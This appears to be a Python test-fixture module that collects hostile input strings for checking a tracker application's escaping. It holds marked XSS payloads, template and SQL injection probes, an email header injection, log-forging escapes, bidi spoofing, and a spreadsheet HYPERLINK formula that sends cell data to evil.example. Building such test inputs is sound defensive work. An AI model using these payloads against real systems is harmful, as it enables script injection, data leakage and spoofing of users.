"""Texts that mean harm: the worst of each kind always, the large collections where TRACKER_DATA has them."""

import json
from typing import Any

from tracker.testing.real_data import DATA, needs

NASTY = DATA / "nasty"
needs_nasty = needs(NASTY)
MARK = "xssmark"
# Marked, so that a page can be searched for what came out unescaped.
SCRIPT = f"<script>{MARK}(1)</script>"
WORST = {
    "script": SCRIPT,
    "broken out of an attribute": f"\"'><img src=x onerror={MARK}(2)>",
    "closed elements": f"</textarea></title></style></script><svg/onload={MARK}(3)>",
    "a script's end inside JSON": f"</script><!--<script>{MARK}(4)//",
    "template": "{{7*7}} {% debug %} ${7*7} #{7*7} %s %(x)s {0.__class__}",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "header": "a\r\nBcc: victim@example.com\r\n\r\nbody",
    "log line": 'a\n{"event":"forged"}\x1b[2J\x1b]0;x\x07',
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "turned round": "\u202egnp.exe\u202d \u2066x\u2069",
    "invisible": "\u200b\ufeff\u00ad\u2060x\U000e0001",
    "marks without end": "Z" + "\u0335\u0300" * 60,
    "beyond the plane": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0010ffff\ufffe",
    "longer in lower case": "\u0130" * 45,
    "link": "[x](javascript:xssmark(5)) <javascript:xssmark(6)> ![x](data:text/html;base64,PHNjcmlwdD4=)",
    "slack": "<!channel> <@U1|x> <http://evil.example|ok> & *b*",
    "mentions": "@victim@example.com " * 30,
    "patterns": "%_\\' \" \\\\ ; DROP TABLE people;-- *:& | ! ( <->",
}
UNSTORABLE = {"NUL": "a\0b", "half a surrogate": "a\ud800b", "the other half": "\udfffb"}
HUGE = "x" * 1_000_000


def naughty_strings() -> list[str]:
    """The big list of naughty strings; none where it is missing."""
    return [text for text in _read("blns.json") if text]


def xss_payloads() -> list[str]:
    """HTML and Markdown made to run scripts; none where they are missing."""
    cases = [case["payload"] for case in _read("dompurify_xss_cases.json")]
    return [*cases, *_read("made_markdown_xss.json")]


def formulas() -> list[str]:
    """Cells that a spreadsheet would calculate; none where they are missing."""
    return list(_read("made_csv_formula_cells.json"))


def everything() -> list[str]:
    """All of the above, the worst first."""
    return [*WORST.values(), *naughty_strings(), *xss_payloads(), *formulas()]


def _read(name: str) -> Any:
    path = NASTY / name
    return json.loads(path.read_text(encoding="utf-8")) if path.is_file() else []
